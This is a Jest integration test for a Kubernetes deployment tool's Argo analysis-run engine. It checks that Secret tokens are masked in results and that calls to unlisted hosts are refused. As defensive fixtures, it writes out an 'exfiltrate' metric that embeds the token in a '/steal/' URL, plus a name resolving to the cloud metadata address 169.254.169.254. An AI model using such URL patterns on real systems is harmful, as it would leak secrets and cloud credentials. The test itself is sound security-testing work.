import type { LookupFunction } from 'node:net';
import { KubeConfig } from '@kubernetes/client-node';
import type { KubernetesObject } from '@slipway/plugin-gitops-node';
import { Cluster } from '../../../clusters/Cluster';
import {
  localKubeconfigPath,
  uniqueName,
} from '../../../clusters/__testUtils__/localKube';
import { NamespaceAllowList } from '../../../clusters/NamespaceAllowList';
import { projectOutboundPolicy } from '../../../outbound';
import { testProject } from '../../../__testUtils__/testProject';
import type { AnalysisRunState } from '../analysis';
import {
  T0,
  lookupOf,
  manualClock,
  stored,
  template,
  testDeps,
  toStart,
} from './__testUtils__/fixtures';
import { json, startMetricServer } from './__testUtils__/metricServer';
import type { MetricServer } from './__testUtils__/metricServer';
import { advanceArgoRuns } from './advanceArgoRuns';
import { observeArgoRuns } from './observeArgoRuns';
import { startArgoRun } from './startArgoRun';
import type { ReadSecretData } from './types';

jest.setTimeout(120_000);

// An Argo AnalysisTemplate reads a token from a Secret on the local API
// server and sends it to the team's metric server. The token reaches that
// server and nothing else: no run state, measurement or message holds it,
// in any spelling a URL gives it. A metric at a host the project does not
// list is an Error measurement naming the rule, and that host hears nothing.

// Characters URLs and Go's JSON encoder escape, around a core no encoding changes.
const FIRST_TOKEN = 'Zq9 s3cr3tA/+=&<tok>';
const SECOND_TOKEN = 'Rotated+s3cr3tB/2 ?';
const CORES = ['s3cr3tA', 's3cr3tB'];

/** Neither token, in any spelling: every spelling keeps its core. */
function expectNoSecret(what: unknown) {
  const text = JSON.stringify(what);
  for (const core of CORES) expect(text).not.toContain(core);
}

describe('Argo AnalysisRuns: Secrets and outbound calls stay inside the project', () => {
  let admin: Cluster;
  let server: MetricServer;
  const namespace = uniqueName('argo-runs');
  const asked: string[] = [];

  /** The engine's reader: the Secret's data, decoded; undefined when it does not exist. */
  const readSecret: ReadSecretData = async (ns, name) => {
    asked.push(`${ns}/${name}`);
    const secret = await admin.get({
      apiVersion: 'v1',
      kind: 'Secret',
      namespace: ns,
      name,
    });
    if (!secret) return undefined;
    const data = (secret.data ?? {}) as Record<string, string>;
    return Object.fromEntries(
      Object.entries(data).map(([key, value]) => [
        key,
        Buffer.from(value, 'base64').toString('utf8'),
      ]),
    );
  };

  const writeToken = (token: string) =>
    admin.apply({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'metrics-token', namespace },
      stringData: { token },
    } as KubernetesObject);

  beforeAll(async () => {
    const kubeConfig = new KubeConfig();
    kubeConfig.loadFromFile(localKubeconfigPath());
    admin = new Cluster('local', kubeConfig, {
      namespaces: new NamespaceAllowList(['*']),
    });
    await admin.apply({
      apiVersion: 'v1',
      kind: 'Namespace',
      metadata: { name: namespace },
    });
    await writeToken(FIRST_TOKEN);
    server = await startMetricServer(request => {
      const path = request.url.split('?')[0];
      if (path === '/echo')
        return json({ seen: request.headers.authorization ?? '' });
      return json({ ok: true });
    });
  });
  afterAll(async () => {
    await server?.close();
    await admin.delete({
      apiVersion: 'v1',
      kind: 'Namespace',
      name: namespace,
    });
    await admin.stop();
  });

  it('sends a Secret argument read from the cluster each round, and keeps it out of every state, measurement and message', async () => {
    const port = new URL(server.url).port;
    const withToken = template('with-token', {
      args: [
        {
          name: 'api-token',
          valueFrom: { secretKeyRef: { name: 'metrics-token', key: 'token' } },
        },
      ],
      metrics: [
        {
          name: 'authorized',
          interval: '10s',
          count: 2,
          successCondition: 'result == true',
          provider: {
            web: {
              url: `${server.url}/check?token={{args.api-token}}`,
              headers: [
                { key: 'Authorization', value: 'Bearer {{args.api-token}}' },
              ],
              jsonPath: '{$.ok}',
            },
          },
        },
        {
          // A server that answers with the token: the value must not keep it.
          name: 'echo',
          interval: '10s',
          count: 2,
          provider: {
            web: {
              url: `${server.url}/echo`,
              headers: [
                { key: 'Authorization', value: 'Bearer {{args.api-token}}' },
              ],
              jsonPath: '{$.seen}',
            },
          },
        },
        {
          // A host the project does not list, the token in its path and query.
          name: 'exfiltrate',
          interval: '10s',
          count: 2,
          consecutiveErrorLimit: 1,
          provider: {
            web: {
              url: `http://localhost:${port}/steal/{{args.api-token}}?t={{args.api-token}}`,
            },
          },
        },
      ],
    });
    const clock = manualClock();
    const deps = testDeps({
      templates: lookupOf(withToken),
      readSecret,
      namespace,
      projectPolicy: projectOutboundPolicy(
        testProject({ name: 'team-a', outboundHosts: [`127.0.0.1:${port}`] }),
      ),
      now: clock.now,
    });
    let runs: Record<string, AnalysisRunState> = {
      'shop-1': stored(
        await startArgoRun(toStart('shop-1', ['with-token']), deps),
      ),
    };
    expect(runs['shop-1'].phase).toBe('Running');
    expectNoSecret(runs);

    const first = await advanceArgoRuns(runs, deps);
    runs = stored(first.runs);
    expect(
      Object.fromEntries(
        first.taken.map(t => [t.metric, [t.phase, t.value ?? t.message]]),
      ),
    ).toEqual({
      authorized: ['Successful', 'true'],
      echo: ['Successful', '"Bearer *****"'],
      exfiltrate: [
        'Error',
        `GET http://localhost:${port}/steal/***** refused: URL host localhost:${port} is not in the outboundHosts of project 'team-a'`,
      ],
    });
    const check = server.seen.find(r => r.url.startsWith('/check'))!;
    expect(check.headers.authorization).toBe(`Bearer ${FIRST_TOKEN}`);
    // Substituted as is, as Argo does: the URL's own encoding applies.
    expect(check.url).toContain('token=Zq9%20s3cr3tA/');
    expect(server.seen.filter(r => r.url.startsWith('/steal'))).toEqual([]);

    // Argo reads Secrets again each round: a rotated token is sent at once.
    await writeToken(SECOND_TOKEN);
    clock.set(T0 + 10_000);
    const second = await advanceArgoRuns(runs, deps);
    runs = stored(second.runs);
    const checks = server.seen.filter(r => r.url.startsWith('/check'));
    expect(checks.map(r => r.headers.authorization)).toEqual([
      `Bearer ${FIRST_TOKEN}`,
      `Bearer ${SECOND_TOKEN}`,
    ]);
    // The refused metric's second error in a row ends the run; its message is masked too.
    expect(runs['shop-1']).toMatchObject({
      phase: 'Error',
      message: `Metric "exfiltrate" assessed Error due to consecutiveErrors (2) > consecutiveErrorLimit (1): "Error Message: GET http://localhost:${port}/steal/***** refused: URL host localhost:${port} is not in the outboundHosts of project 'team-a'"`,
    });
    expect(
      runs['shop-1'].metricResults.map(r => [r.name, r.phase, r.successful]),
    ).toEqual([
      ['authorized', 'Successful', 2],
      ['echo', 'Successful', 2],
      ['exfiltrate', 'Error', 0],
    ]);
    expect(asked).toEqual([
      `${namespace}/metrics-token`,
      `${namespace}/metrics-token`,
      `${namespace}/metrics-token`,
    ]);

    expectNoSecret(first);
    expectNoSecret(second);
    expectNoSecret(observeArgoRuns(runs));
    expect(server.seen.filter(r => r.url.startsWith('/steal'))).toEqual([]);
  });

  it('makes a call to a host the project does not allow an Error measurement naming the refusal; the host hears nothing', async () => {
    const before = server.seen.length;
    // Names resolving to the cloud metadata address, whatever the project says.
    const metadata: LookupFunction = (_hostname, _options, callback) =>
      (callback as (e: null, a: { address: string; family: number }[]) => void)(
        null,
        [{ address: '169.254.169.254', family: 4 }],
      );
    const locked = testProject({
      name: 'team-a',
      outboundHosts: ['prometheus.monitoring:9090', '*.test:*'],
    });
    const outside = template('outside', {
      metrics: [
        {
          name: 'web',
          consecutiveErrorLimit: 0,
          provider: { web: { url: `${server.url}/private?x=1` } },
        },
        {
          name: 'prometheus',
          consecutiveErrorLimit: 0,
          provider: { prometheus: { address: server.url, query: 'up' } },
        },
        {
          name: 'metadata',
          consecutiveErrorLimit: 0,
          provider: { web: { url: 'http://metadata.test:8080/latest' } },
        },
      ],
    });
    const deps = testDeps({
      templates: lookupOf(outside),
      namespace,
      projectPolicy: projectOutboundPolicy(locked, metadata),
    });
    const runs = stored({
      'outside-1': await startArgoRun(toStart('outside-1', ['outside']), deps),
    });
    const { runs: after, taken } = await advanceArgoRuns(runs, deps);
    const host = new URL(server.url).host;
    expect(taken.map(t => [t.metric, t.phase, t.message])).toEqual([
      [
        'web',
        'Error',
        `GET ${server.url}/private refused: URL host ${host} is not in the outboundHosts of project 'team-a'`,
      ],
      [
        'prometheus',
        'Error',
        `GET ${server.url}/api/v1/query refused: URL host ${host} is not in the outboundHosts of project 'team-a'`,
      ],
      [
        'metadata',
        'Error',
        "GET http://metadata.test:8080/latest refused: 'metadata.test' resolves to 169.254.169.254, a cloud metadata address, which Slipway never calls",
      ],
    ]);
    // consecutiveErrorLimit 0: the first error ends the run, saying why.
    expect(observeArgoRuns(after)['outside-1']).toEqual({
      phase: 'Error',
      message: `Metric "web" assessed Error due to consecutiveErrors (1) > consecutiveErrorLimit (0): "Error Message: GET ${server.url}/private refused: URL host ${host} is not in the outboundHosts of project 'team-a'"`,
    });
    expect(server.seen.length).toBe(before);
  });
});
